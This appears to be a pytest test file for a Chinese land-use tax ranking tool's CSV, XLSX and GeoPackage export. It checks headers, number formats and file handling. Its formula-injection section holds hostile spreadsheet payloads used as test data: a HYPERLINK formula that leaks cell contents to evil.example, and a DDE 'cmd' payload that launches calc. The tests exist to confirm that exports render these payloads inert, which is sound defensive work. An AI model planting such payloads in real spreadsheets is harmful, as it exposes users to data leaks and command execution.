"""Tests for mujun.layers.export: CSV and XLSX with Chinese headers, GeoPackage with canonical names."""

from __future__ import annotations

import codecs
import contextlib
import csv
import sqlite3

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
from conftest import xlsx_rows
from pyproj import CRS
from shapely.geometry import box

from mujun.geo.errors import InputError
from mujun.layers.export import chinese_headers, export_table

HEADERS = ["排名", "统一社会信用代码", "企业名称", "亩均税收(万元/亩)", "用地面积(亩)", "是否规上",
           "出让日期"]


def _ranking() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "rank": pd.array([1, 2, 3], dtype="Int64"),
            "credit_code": ["91330600MA2AAAAAA1", "91330600MA2BBBBBB2", "91330600MA2CCCCCC3"],
            "name": ["绍兴纺织有限公司", "柯桥印染厂", "浙江某某机械股份有限公司"],
            "tax_per_mu": [30.456, 12.5, None],
            "area_mu": [64.18, 20.0, 5.5],
            "above_scale": pd.array([True, False, None], dtype="boolean"),
            "transfer_date": pd.to_datetime(["2020-01-02", "2021-03-05", None]),
        }
    )


def _parcel_ranking() -> gpd.GeoDataFrame:
    x, y = 120.58, 30.0
    return gpd.GeoDataFrame(
        {
            "rank": pd.array([1, 2], dtype="Int64"),
            "parcel_id": ["330602001", "330602002"],
            "holder_name": ["绍兴纺织有限公司", "柯桥印染厂"],
            "area_mu": [64.18, 64.17],
            "tax_per_mu": [0.31, 0.16],
            "industrial": pd.array([True, None], dtype="boolean"),
        },
        geometry=[box(x, y, x + 0.002, y + 0.002), box(x + 0.003, y, x + 0.005, y + 0.002)],
        crs="EPSG:4490",
    )


# -- chinese_headers -----------------------------------------------------------------------
def test_chinese_headers():
    cols = ["rank", "credit_code", "tax_per_mu", "area_mu", "area_m2", "value_added", "unknown_col"]
    assert chinese_headers(cols) == ["排名", "统一社会信用代码", "亩均税收(万元/亩)", "用地面积(亩)",
                                     "用地面积(平方米)", "工业增加值(万元)", "unknown_col"]


def test_chinese_headers_overrides():
    assert chinese_headers(["name", "rank"], {"name": "园区名称"}) == ["园区名称", "排名"]


# -- CSV -----------------------------------------------------------------------------------
def test_csv_is_utf8_with_bom_and_chinese_headers(tmp_path):
    p = export_table(_ranking(), tmp_path / "排名.csv", headers={"name": "企业名称"})
    assert p == tmp_path / "排名.csv"
    raw = p.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == HEADERS
    assert rows[1] == ["1", "91330600MA2AAAAAA1", "绍兴纺织有限公司", "30.456", "64.18", "是", "2020-01-02"]
    assert rows[2][5] == "否"
    assert rows[3][3] == "" and rows[3][5] == "" and rows[3][6] == ""
    assert len(rows) == 4


def test_csv_read_back_by_pandas(tmp_path):
    p = export_table(_ranking(), tmp_path / "r.csv", headers={"name": "企业名称"})
    back = pd.read_csv(p, encoding="utf-8-sig", dtype={"统一社会信用代码": str})
    assert back.columns.tolist()[:5] == ["排名", "统一社会信用代码", "企业名称", "亩均税收(万元/亩)",
                                         "用地面积(亩)"]
    assert back["统一社会信用代码"].tolist() == _ranking()["credit_code"].tolist()
    assert back["亩均税收(万元/亩)"].iloc[0] == pytest.approx(30.456)


def test_csv_geometry_column_dropped(tmp_path):
    p = export_table(_parcel_ranking(), tmp_path / "r.csv")
    header = p.read_text(encoding="utf-8-sig").splitlines()[0].split(",")
    assert header == ["排名", "宗地编号", "权利人", "用地面积(亩)", "亩均税收(万元/亩)", "工业用地"]


def test_export_replaces_existing_file(tmp_path):
    p = tmp_path / "r.csv"
    p.write_text("old")
    export_table(_ranking(), p)
    assert p.read_bytes().startswith(codecs.BOM_UTF8)
    assert [q.name for q in tmp_path.iterdir()] == ["r.csv"]  # no temporary left


# -- XLSX ----------------------------------------------------------------------------------
def test_xlsx_headers_values_and_formats(tmp_path):
    p = export_table(_ranking(), tmp_path / "排名.xlsx", headers={"name": "企业名称"}, sheet="企业排名",
                     notes=[("年度", "2023"), ("口径", "税收合计 ÷ 用地面积合计")])
    wb = openpyxl.load_workbook(p)
    assert wb.sheetnames == ["企业排名", "说明"]
    ws = wb["企业排名"]
    assert [c.value for c in ws[1]] == HEADERS
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[2]][:6] == [1, "91330600MA2AAAAAA1", "绍兴纺织有限公司", 30.456, 64.18, "是"]
    assert ws["D2"].number_format == "0.00"
    assert ws["E2"].number_format == "0.00"
    assert ws["D4"].value is None
    assert ws.max_row == 4
    notes = wb["说明"]
    assert [c.value for c in notes[1]] == ["项目", "内容"]
    assert [c.value for c in notes[3]] == ["口径", "税收合计 ÷ 用地面积合计"]


def test_xlsx_without_notes_has_one_sheet(tmp_path):
    wb = openpyxl.load_workbook(export_table(_ranking(), tmp_path / "r.xlsx", headers={"name": "园区名称"}))
    assert wb.sheetnames == ["排名"]
    assert wb.active["C1"].value == "园区名称"


def test_xlsx_credit_codes_stay_text(tmp_path):
    frame = _ranking().assign(credit_code=["913306000000000001", "0123", "91330600MA2CCCCCC3"])
    ws = openpyxl.load_workbook(export_table(frame, tmp_path / "r.xlsx")).active
    assert [ws.cell(row=r, column=2).value for r in (2, 3, 4)] == ["913306000000000001", "0123",
                                                                    "91330600MA2CCCCCC3"]


# -- GeoPackage ----------------------------------------------------------------------------
def test_gpkg_keeps_canonical_names_and_geometry(tmp_path):
    p = export_table(_parcel_ranking(), tmp_path / "排名.gpkg")
    info = pyogrio.read_info(p)
    assert CRS.from_user_input(info["crs"]).to_epsg() == 4490
    back = pyogrio.read_dataframe(p)
    assert back.columns.tolist() == ["rank", "parcel_id", "holder_name", "area_mu", "tax_per_mu",
                                     "industrial", "geometry"]
    assert back["parcel_id"].tolist() == ["330602001", "330602002"]
    assert back["holder_name"].tolist() == ["绍兴纺织有限公司", "柯桥印染厂"]
    assert back["tax_per_mu"].tolist() == [0.31, 0.16]
    assert back.geometry.geom_equals(_parcel_ranking().geometry).all()
    with contextlib.closing(sqlite3.connect(p)) as con:
        assert con.execute("PRAGMA application_id").fetchone()[0] == 0x47504B47


def test_gpkg_attribute_table(tmp_path):
    p = export_table(_ranking(), tmp_path / "r.gpkg")
    back = pyogrio.read_dataframe(p, read_geometry=False)
    assert back.columns.tolist() == _ranking().columns.tolist()
    assert back["name"].tolist()[:2] == ["绍兴纺织有限公司", "柯桥印染厂"]


# -- refusals ------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["r.txt", "r.xls", "r.shp", "r"])
def test_unsupported_suffix_refused(tmp_path, name):
    with pytest.raises(InputError, match=f"无法导出为 '{name}'.*.csv"):
        export_table(_ranking(), tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_missing_folder_refused(tmp_path):
    with pytest.raises(InputError, match="导出文件夹 .*不存在"):
        export_table(_ranking(), tmp_path / "no" / "r.csv")


def test_unwritable_target_refused_and_nothing_left(tmp_path):
    target = tmp_path / "r.csv"
    target.mkdir()  # a folder in the way: the final move fails
    with pytest.raises(InputError, match="无法写入"):
        export_table(_ranking(), target)
    assert [q.name for q in tmp_path.iterdir()] == ["r.csv"]
    assert target.is_dir()


# -- formula injection ----------------------------------------------------------------------
#: Text a spreadsheet would run: hyperlinks that leak cells, DDE, and every formula lead.
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")', "=cmd|' /C calc'!A0", "+1+1",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _hostile() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({
        "rank": pd.array(range(1, n + 2), dtype="Int64"),
        "name": [*HOSTILE, "绍兴纺织有限公司"],
        "tax_per_mu": [-3.5, *[1.25] * n],  # a negative number stays a number
        "area_mu": [10.0] * (n + 1),
    })


def _formula_cells(path) -> list[str]:
    """Coordinates of the formula cells of every sheet (openpyxl marks them 'f')."""
    book = openpyxl.load_workbook(path)
    try:
        return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    finally:
        book.close()


def test_formula_like():
    from mujun.layers.export import formula_like

    flags = formula_like(pd.Series([*HOSTILE, "绍兴", "a=b", None, pd.NA, 3.0], dtype=object))
    assert flags.tolist() == [True] * len(HOSTILE) + [False] * 5


def test_xlsx_writes_formula_text_as_text(tmp_path):
    p = export_table(_hostile(), tmp_path / "r.xlsx", notes=[("筛选", "=HYPERLINK(\"http://x\")")])
    assert _formula_cells(p) == []
    rows = xlsx_rows(p)
    # the text as typed (XML reads a carriage return back as a line feed)
    assert [r[1] for r in rows[1:]] == [*(h.replace("\r", "\n") for h in HOSTILE), "绍兴纺织有限公司"]
    assert rows[1][2] == -3.5 and isinstance(rows[2][2], float)
    assert xlsx_rows(p, "说明")[1] == ("筛选", "=HYPERLINK(\"http://x\")")


def test_csv_prefixes_formula_text(tmp_path):
    p = export_table(_hostile(), tmp_path / "r.csv")
    with p.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r[1] for r in rows[1:]] == [*("'" + h for h in HOSTILE), "绍兴纺织有限公司"]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for r in rows[1:] for cell in r[1:2])
    assert rows[1][2] == "-3.5"  # numbers are not prefixed


@pytest.fixture(scope="module")
def hostile_workspace(sample_workspace, tmp_path_factory):
    """The sample with hostile enterprise, holder and district names, evaluated for 2025."""
    import shutil

    from mujun.layers.workspace import Workspace
    from mujun.service import evaluate

    ws = Workspace(tmp_path_factory.mktemp("hostile") / "hostile.gpkg")
    shutil.copyfile(sample_workspace.path, ws.path)
    ent, parcels, districts = ws.read("enterprises"), ws.read("parcels"), ws.read("districts")
    ent["name"] = ent["name"].astype(object)
    ent.loc[ent.index[::3], "name"] = HOSTILE[0]
    parcels["holder_name"] = parcels["holder_name"].astype(object)
    parcels.loc[parcels.index[::2], "holder_name"] = HOSTILE[1]
    districts["name"] = [f"{HOSTILE[2]}{i}" for i in range(len(districts))]
    ws.write({"enterprises": ent, "parcels": parcels, "districts": districts})
    evaluate(ws, year=2025, progress=False)
    return ws


@pytest.mark.parametrize("level", ["enterprise", "parcel", "district"])
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_rankings_of_hostile_names_are_inert(hostile_workspace, tmp_path, level, suffix):
    from mujun.service import export_ranking, ranking

    frame, year = ranking(hostile_workspace, level=level, by="tax_per_mu")
    p = export_ranking(frame, level, "tax_per_mu", year, tmp_path / f"r{suffix}", hostile_workspace)
    if suffix == ".xlsx":
        assert _formula_cells(p) == []
        texts = [str(v) for row in xlsx_rows(p) for v in row if v is not None]
        assert any(t.startswith(("=HYPERLINK", "=cmd", "+1+1")) for t in texts)  # kept as typed
    else:
        text = p.read_text(encoding="utf-8-sig")
        assert not any(line.split(",")[2:3] and line.split(",")[2].startswith(("=", "+", "@"))
                       for line in text.splitlines())
        assert "'=HYPERLINK" in text or "'=cmd" in text or "'+1+1" in text


def test_review_export_of_a_hostile_comment_is_inert(hostile_workspace, tmp_path):
    from mujun.layers.review import save_decision
    from mujun.service import export_review, review_of_year

    rows, year = review_of_year(hostile_workspace, 2025)
    pid = str(rows["parcel_id"].iloc[0])
    save_decision(hostile_workspace, pid, year, status="需现场核查", measure="", deadline="",
                  comment="=1+cmd|' /C calc'!A0", base_version=0, user="=rev")
    rows, year = review_of_year(hostile_workspace, 2025)
    p = export_review(rows, year, tmp_path / "审核.xlsx", hostile_workspace)
    assert _formula_cells(p) == []
    assert "=1+cmd|' /C calc'!A0" in [v for row in xlsx_rows(p) for v in row]
    c = export_review(rows, year, tmp_path / "审核.csv", hostile_workspace).read_text(encoding="utf-8-sig")
    assert "'=1+cmd|' /C calc'!A0" in c and ",=" not in c
